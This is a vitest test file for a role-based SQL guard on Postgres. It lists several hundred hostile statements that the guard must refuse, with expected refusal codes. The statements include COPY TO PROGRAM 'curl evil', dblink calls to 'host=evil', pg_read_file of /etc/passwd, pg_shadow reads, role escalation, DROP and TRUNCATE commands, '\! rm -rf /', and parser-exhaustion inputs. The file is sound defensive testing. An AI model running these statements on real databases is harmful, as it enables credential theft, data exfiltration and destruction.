import { beforeAll, describe, expect, it } from 'vitest'
import type { Role } from '#contracts/role.ts'
import { createGuard, type Guard, type Judgement } from './guard.ts'
import { salesCatalog } from './guard-fixture.ts'

let guard: Guard
beforeAll(async () => {
  guard = await createGuard()
})

const catalog = salesCatalog('postgres')
const judge = (sql: string, role: Role): Judgement => guard.judge({ sql, dialect: 'postgres', role, catalog, limit: 1000 })
const roles: readonly Role[] = ['reader', 'editor', 'admin']

const hostile = String.raw`
SELECT 1; DROP TABLE clientes
SELECT 1; SELECT 2
;;
-- nada
SELECT * FROM clientes; DELETE FROM clientes; --
COMMIT; DROP TABLE clientes
SELECT 1;/**/DROP TABLE clientes
WITH x AS (DELETE FROM clientes RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO zonas VALUES (99, 'x') RETURNING id) SELECT * FROM x
WITH x AS (UPDATE clientes SET activo = false RETURNING id) SELECT count(*) FROM x
WITH a AS (WITH b AS (DELETE FROM zonas RETURNING *) SELECT * FROM b) SELECT * FROM a
SELECT * FROM (WITH b AS (DELETE FROM zonas RETURNING *) SELECT * FROM b) t
SELECT * INTO copia FROM clientes
SELECT * INTO TEMP copia FROM clientes
CREATE TABLE copia AS SELECT * FROM clientes
CREATE TABLE copia AS TABLE clientes
CREATE MATERIALIZED VIEW mv AS SELECT * FROM clientes
EXPLAIN SELECT * FROM clientes
EXPLAIN ANALYZE DELETE FROM clientes
EXPLAIN (ANALYZE, FORMAT JSON) UPDATE clientes SET activo = true
MERGE INTO clientes c USING zonas z ON c.zona_id = z.id WHEN MATCHED THEN DELETE
COPY clientes TO '/tmp/x'
COPY clientes FROM '/etc/passwd'
COPY clientes TO PROGRAM 'curl evil'
COPY (SELECT * FROM clientes) TO STDOUT
DO $$ BEGIN DELETE FROM clientes; END $$
DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'
CALL borrar()
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET search_path = pg_catalog
SET LOCAL statement_timeout = 0
RESET ALL
SHOW all
PREPARE x AS DELETE FROM clientes
EXECUTE x
EXECUTE x(1)
DEALLOCATE ALL
DISCARD ALL
LISTEN canal
NOTIFY canal, 'x'
UNLISTEN *
VACUUM FULL clientes
ANALYZE clientes
REINDEX TABLE clientes
CLUSTER clientes
CHECKPOINT
GRANT ALL ON clientes TO public
REVOKE ALL ON clientes FROM public
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'
CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'delete from clientes'
CREATE TRIGGER t AFTER INSERT ON clientes EXECUTE FUNCTION f()
CREATE EXTENSION dblink
CREATE ROLE mala SUPERUSER
CREATE USER mala
ALTER ROLE postgres SUPERUSER
DROP ROLE postgres
CREATE DATABASE x
DROP DATABASE postgres
CREATE SCHEMA s
DROP SCHEMA public CASCADE
ALTER SCHEMA public RENAME TO p
CREATE RULE r AS ON SELECT TO clientes DO INSTEAD NOTHING
CREATE POLICY p ON clientes USING (true)
CREATE TYPE t AS ENUM ('a')
CREATE DOMAIN d AS int CHECK (pg_sleep(1) IS NULL)
CREATE SEQUENCE s
CREATE AGGREGATE a(int) (sfunc = int4pl, stype = int)
CREATE CAST (text AS int) WITH INOUT
CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE FOREIGN TABLE f (a int) SERVER s
IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
CREATE LANGUAGE plpython3u
ALTER SYSTEM SET listen_addresses = '*'
LOAD 'evil.so'
LOCK TABLE clientes
SELECT * FROM clientes FOR UPDATE
SELECT * FROM clientes FOR SHARE
SELECT * FROM (SELECT * FROM clientes FOR UPDATE) t
BEGIN
COMMIT
ROLLBACK
SAVEPOINT a
PREPARE TRANSACTION 'x'
DECLARE c CURSOR FOR SELECT * FROM clientes
FETCH ALL FROM c
SECURITY LABEL ON TABLE clientes IS 'x'
REFRESH MATERIALIZED VIEW mv
REASSIGN OWNED BY a TO b
DROP OWNED BY a
SELECT pg_read_file('/etc/passwd')
SELECT pg_catalog.pg_read_file('/etc/passwd')
SELECT "pg_read_file"('/etc/passwd')
SELECT U&"\0070g_read_file"('/etc/passwd')
SELECT U&"pg!005fsleep" UESCAPE '!' (10)
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT pg_stat_file('/etc/passwd')
SELECT pg_sleep(1000)
SELECT pg_sleep_for('1 hour')
SELECT PG_SLEEP(10)
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_advisory_lock(1)
SELECT set_config('role', 'postgres', false)
SELECT current_setting('data_directory')
SELECT query_to_xml('delete from clientes', true, true, '')
SELECT table_to_xml('clientes', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
SELECT dblink_exec('host=evil', 'drop table x')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_create(0)
SELECT lo_unlink(1)
SELECT nextval('clientes_id_seq')
SELECT setval('clientes_id_seq', 1)
SELECT currval('clientes_id_seq')
SELECT txid_current()
SELECT version()
SELECT inet_server_addr()
SELECT current_user
SELECT session_user
SELECT user
SELECT current_catalog
SELECT current_schema
SELECT current_database()
SELECT has_table_privilege('clientes', 'select')
SELECT pg_relation_size('clientes')
SELECT pg_get_viewdef('ventas'::regclass)
SELECT 'pg_class'::regclass
SELECT CAST('clientes' AS regclass)
SELECT 'now'::regproc
SELECT 'x'::regrole
SELECT regclass 'pg_class'
SELECT 1::oid
SELECT '<a/>'::xml
SELECT xmlparse(document '<a/>')
SELECT xpath('//a', '<a/>')
SELECT null::pg_class
SELECT null::information_schema.sql_identifier
SELECT ('/etc/passwd'::text).pg_read_file
SELECT (c).pg_typeof FROM clientes c
SELECT c.row_security_active FROM clientes c
SELECT c.secreto FROM clientes c
SELECT * FROM pg_class
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM pg_shadow
SELECT * FROM "pg_authid"
SELECT * FROM U&"pg\005fauthid"
SELECT * FROM information_schema.tables
SELECT * FROM t7.asks
SELECT * FROM t7_kept.clientes
SELECT * FROM "T7".asks
SELECT * FROM otro.clientes
SELECT * FROM otra_base.public.clientes
SELECT * FROM pg_temp.x
SELECT * FROM pg_toast.pg_toast_1
TABLE pg_user
TABLE pg_catalog.pg_authid
SELECT * FROM clients
SELECT nombrre FROM clientes
SELECT c.nombree FROM clientes c
SELECT * FROM clientes WHERE id IN (SELECT oid FROM pg_class)
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)
SELECT * FROM clientes WHERE EXISTS (SELECT pg_sleep(5))
SELECT * FROM clientes ORDER BY pg_sleep(1)
SELECT * FROM clientes LIMIT pg_sleep(1)::text::int
SELECT * FROM clientes LIMIT (SELECT count(*) FROM pg_class)
SELECT * FROM clientes OFFSET (SELECT pg_backend_pid())
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM clientes
SELECT sum(pg_backend_pid()) OVER () FROM clientes
SELECT rank() OVER (ORDER BY pg_sleep(1)) FROM clientes
SELECT * FROM clientes GROUP BY pg_sleep(1)
SELECT 1 FROM clientes HAVING pg_sleep(1) IS NULL
SELECT CASE WHEN true THEN pg_read_file('x') END
SELECT ARRAY[pg_read_file('x')]
SELECT ROW(pg_read_file('x'))
SELECT coalesce(pg_read_file('x'), '')
SELECT greatest(pg_read_file('x'), '')
SELECT nullif(pg_read_file('x'), '')
SELECT pg_read_file('x')::text
SELECT (ARRAY[1,2])[pg_backend_pid()]
VALUES (pg_read_file('/etc/passwd'))
VALUES (1), (pg_sleep(1)::text::int)
SELECT * FROM (VALUES (pg_read_file('x'))) v(a)
SELECT * FROM pg_read_file('/etc/passwd')
SELECT * FROM ROWS FROM (pg_ls_dir('/'))
SELECT * FROM pg_show_all_settings()
SELECT * FROM clientes CROSS JOIN LATERAL pg_ls_dir('/')
SELECT * FROM clientes c JOIN zonas z ON pg_sleep(1) IS NULL
SELECT * FROM clientes TABLESAMPLE mio(10)
SELECT otro.lower('x')
SELECT public.mi_funcion(1)
SELECT mi_funcion(nombre) FROM clientes
SELECT 1 OPERATOR(otro.+) 2
SELECT id FROM clientes ORDER BY id USING OPERATOR(otro.<)
SELECT 1 @@@ 2
SELECT 1 = ANY (SELECT pg_backend_pid())
SELECT nombre COLLATE otro.c FROM clientes
SELECT * FROM trampa
SELECT count(*) FROM trampa_doble
SELECT * FROM clientes WHERE id IN (SELECT id FROM trampa)
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n * 2 FROM t WHERE n > 0) SELECT * FROM t
WITH RECURSIVE t AS (SELECT id FROM clientes UNION ALL SELECT c.id FROM t, clientes c) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT a.n FROM t a, t b) SELECT * FROM t
WITH RECURSIVE t AS (SELECT id FROM zonas UNION ALL SELECT c.id FROM t, zonas c WHERE true) SELECT * FROM t
CREATE RECURSIVE VIEW v (n) AS SELECT 1 UNION ALL SELECT n + 1 FROM v
SELECT x.pg_read_file FROM (SELECT '/etc/passwd'::text AS a) x
SELECT '{pg_class}'::regclass[]
SELECT regclass('pg_class')
SELECT pg_catalog.current_setting
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b int)
SELECT * FROM clientes WHERE nombre = current_user
DELETE FROM clientes WHERE CURRENT OF c
SELECT * FROM pedidos, lineas_pedido
SELECT count(*) FROM pedidos a, pedidos b, pedidos c
SELECT * FROM pedidos a CROSS JOIN lineas_pedido b
SELECT * FROM pedidos a JOIN lineas_pedido b ON true
SELECT * FROM generate_series(1, 1000000000)
SELECT generate_series(1, (SELECT count(*) FROM clientes) * 1000000)
SELECT * FROM generate_series('2000-01-01'::timestamp, '2100-01-01', '1 minute')
SELECT repeat('x', 1000000000)
SELECT lpad('x', 1000000000)
SELECT format('%1000000000s', 1)
SELECT convert_from(pg_read_binary_file('x'), 'utf8')
SELECT encode('x', 'base64')
SELECT ts_stat('select 1')
SELECT has_schema_privilege('public', 'create')
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT xmin FROM clientes
SELECT ctid FROM clientes
SELECT * FROM JSON_TABLE('[]', '$[*]' COLUMNS (a int PATH '$')) jt
SELECT XMLELEMENT(name a, pg_read_file('x'))
SELEC * FROM clientes
SELECT * FORM clientes
SELECT 'sin cerrar
SELECT "sin cerrar
SELECT /* sin cerrar
SELECT $$sin cerrar
' OR 1=1 --
1; DROP TABLE clientes
\copy clientes to x
\! rm -rf /
INSERT INTO pg_class VALUES (1)
INSERT INTO t7.asks VALUES (1)
INSERT INTO ventas VALUES ('2025-01-01', 1)
INSERT INTO clientes (nombre) VALUES (pg_read_file('/etc/passwd'))
INSERT INTO clientes (nombre) SELECT pg_read_file('/etc/passwd')
INSERT INTO clientes (nombre) SELECT passwd FROM pg_shadow
INSERT INTO clientes (nombre) VALUES ('x') RETURNING pg_read_file('x')
INSERT INTO clientes (nombre) VALUES ('x') ON CONFLICT (id) DO UPDATE SET nombre = pg_read_file('x')
INSERT INTO clientes (nombre) VALUES ('x') ON CONFLICT (id) DO UPDATE SET nombre = 'y' WHERE pg_sleep(1) IS NULL
INSERT INTO clientes (nombrre) VALUES ('x')
WITH x AS (DELETE FROM zonas RETURNING id) INSERT INTO clientes (zona_id) SELECT id FROM x
UPDATE pg_authid SET rolsuper = true
UPDATE clientes SET nombre = pg_read_file('x')
UPDATE clientes SET nombre = 'x' WHERE pg_sleep(1) IS NULL
UPDATE clientes SET nombre = passwd FROM pg_shadow
UPDATE clientes SET nombre = (SELECT passwd FROM pg_shadow)
UPDATE clientes SET nombre = 'x' RETURNING pg_read_file('x')
UPDATE clientes SET nombrre = 'x'
UPDATE clients SET nombre = 'x'
WITH x AS (DELETE FROM zonas RETURNING id) UPDATE clientes SET activo = false
CREATE TABLE pg_malo (id int)
CREATE TABLE otro.t (id int)
CREATE TABLE t7_kept.t (id int)
CREATE TEMP TABLE t (id int)
CREATE UNLOGGED TABLE t (id int)
CREATE TABLE t (id int DEFAULT pg_backend_pid())
CREATE TABLE t (id int DEFAULT nextval('otra'))
CREATE TABLE t (id int CHECK (pg_sleep(id) IS NULL))
CREATE TABLE t (id int, CHECK (pg_sleep(id) IS NULL))
CREATE TABLE t (id int GENERATED ALWAYS AS (pg_backend_pid()) STORED)
CREATE TABLE t (id regclass)
CREATE TABLE t (id int REFERENCES pg_class (oid))
CREATE TABLE t (LIKE clientes INCLUDING ALL)
CREATE TABLE t () INHERITS (clientes)
CREATE TABLE t (id int) PARTITION BY RANGE (id)
CREATE TABLE t (id int) TABLESPACE x
CREATE TABLE t (id int) WITH (autovacuum_enabled = false)
CREATE TABLE t (a int, EXCLUDE USING gist (a WITH =))
CREATE TABLE t OF tipo
CREATE VIEW v AS SELECT pg_read_file('x')
CREATE VIEW v AS SELECT * FROM pg_shadow
CREATE OR REPLACE VIEW ventas AS SELECT 1
CREATE TEMP VIEW v AS SELECT 1
CREATE INDEX i ON clientes (pg_sleep(1))
CREATE INDEX i ON clientes (id) WHERE pg_sleep(1) IS NULL
CREATE INDEX CONCURRENTLY i ON clientes (id)
CREATE INDEX i ON pg_class (oid)
CREATE INDEX i ON clientes (nombre otro.clase)
ALTER TABLE pg_class ADD COLUMN x int
ALTER TABLE clientes OWNER TO postgres
ALTER TABLE clientes DISABLE TRIGGER ALL
ALTER TABLE clientes ENABLE ROW LEVEL SECURITY
ALTER TABLE clientes SET SCHEMA otro
ALTER TABLE clientes INHERIT pedidos
ALTER TABLE clientes ADD COLUMN x int DEFAULT pg_backend_pid()
ALTER TABLE clientes ALTER COLUMN nombre TYPE text USING pg_read_file(nombre)
ALTER TABLE clientes ALTER COLUMN nombre SET DEFAULT pg_read_file('x')
ALTER TABLE clientes ADD CONSTRAINT c CHECK (pg_sleep(1) IS NULL)
ALTER TABLE clientes RENAME TO pg_clientes
ALTER TABLE clientes SET (fillfactor = 10)
ALTER TABLE clientes ALTER COLUMN nombre SET STATISTICS 0
ALTER VIEW ventas OWNER TO postgres
ALTER SEQUENCE s RESTART
COMMENT ON DATABASE postgres IS 'x'
COMMENT ON TABLE pg_class IS 'x'
DELETE FROM pg_authid
DELETE FROM clientes WHERE pg_sleep(1) IS NULL
DELETE FROM clientes USING pg_shadow WHERE true
DELETE FROM clientes RETURNING pg_read_file('x')
DELETE FROM clients
DELETE FROM ventas
DROP TABLE pg_class
DROP TABLE otro.clientes
DROP TABLE clientes CASCADE
DROP TABLE t7.asks
DROP VIEW clientes
DROP INDEX no_existe
DROP FUNCTION f
DROP EXTENSION plpgsql
DROP TRIGGER t ON clientes
DROP SEQUENCE s
DROP TYPE estado_pedido
ALTER TABLE clientes DROP COLUMN nombre CASCADE
TRUNCATE pg_class
TRUNCATE clientes CASCADE
TRUNCATE t7.asks
`
  .trim()
  .split('\n')

/** What the refusal says to those whose role would allow the class. */
const codes: readonly (readonly [string, string])[] = [
  ['SELECT 1; DROP TABLE clientes', 'guard.several_statements'],
  ['SELECT * FORM clientes', 'guard.unparsable'],
  ['', 'guard.unparsable'],
  ['-- nada', 'guard.unparsable'],
  ['WITH x AS (DELETE FROM clientes RETURNING *) SELECT * FROM x', 'guard.statement_not_supported'],
  ["COPY clientes TO '/tmp/x'", 'guard.statement_not_supported'],
  ['SELECT * FROM clientes FOR UPDATE', 'guard.row_locks'],
  ["SELECT pg_read_file('/etc/passwd')", 'guard.function_not_allowed'],
  ['SELECT * FROM pg_shadow', 'guard.object_not_allowed'],
  ['SELECT * FROM t7.asks', 'guard.object_not_allowed'],
  ["SELECT 'x'::regclass", 'guard.object_not_allowed'],
  ['SELECT * FROM clients', 'guard.unknown_object'],
  ['SELECT nombrre FROM clientes', 'guard.unknown_object'],
  ['SELECT * FROM pedidos, lineas_pedido', 'guard.too_costly'],
  [`SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`, 'guard.too_costly'],
  [`SELECT ${Array(20_000).fill('1').join('+')}`, 'guard.too_costly'],
  [`SELECT ${'not '.repeat(9000)} true`, 'guard.too_costly'],
  [`SELECT ${'- '.repeat(9000)} 1`, 'guard.too_costly'],
  [`SELECT ${'case when true then '.repeat(900)} 1 ${'end '.repeat(900)}`, 'guard.too_costly'],
  [`${'select 1 union '.repeat(2000)} select 1`, 'guard.too_costly'],
  [`select 1${'::int'.repeat(9000)}`, 'guard.too_costly'],
  [`select 1 from clientes a${' join clientes b on true'.repeat(500)}`, 'guard.too_costly'],
  [`SELECT '${'x'.repeat(100_001)}'`, 'guard.too_long'],
  [`SELECT '${'ñ'.repeat(60_000)}'`, 'guard.too_long'],
  ['SELECT 1\0; DROP TABLE clientes', 'guard.unparsable'],
  ['SELECT \u0007 1', 'guard.unparsable'],
  ["SELECT '\u202e'", 'guard.unparsable'],
  ["SELECT '\ud800'", 'guard.unparsable'],
]

describe('hostile statements', () => {
  it.each(hostile)('are refused to every role: %s', (sql) => {
    for (const role of roles) expect(judge(sql, role), role).toMatchObject({ kind: 'refuse' })
  })

  it.each(codes.map(([sql, code]) => ({ title: sql.slice(0, 60), sql, code })))(
    'are refused with a code: $title -> $code',
    ({ sql, code }) => {
      expect(judge(sql, 'admin')).toMatchObject({ kind: 'refuse', refusal: { code } })
    },
  )

  it('name the nearest table and column', () => {
    expect(judge('SELECT * FROM clientess', 'reader')).toMatchObject({
      refusal: { params: { object: 'clientess', nearest: ['clientes'] } },
    })
    expect(judge('SELECT c.nombree FROM clientes c', 'reader')).toMatchObject({ refusal: { params: { object: 'c.nombree' } } })
    expect(judge('SELECT nombrre FROM clientes', 'reader')).toMatchObject({ refusal: { params: { nearest: ['nombre'] } } })
  })

  it('still work after texts that could exhaust the parser', () => {
    expect(judge('SELECT 1', 'reader').kind).toBe('allow')
  })

  it('count the class of a hidden write for the role', () => {
    for (const sql of [
      'WITH x AS (DELETE FROM zonas RETURNING *) SELECT * FROM x',
      'EXPLAIN ANALYZE DELETE FROM zonas',
      'SELECT * INTO c FROM zonas',
    ])
      expect(judge(sql, 'reader')).toMatchObject({ kind: 'refuse', refusal: { code: 'guard.class_not_allowed' } })
  })
})
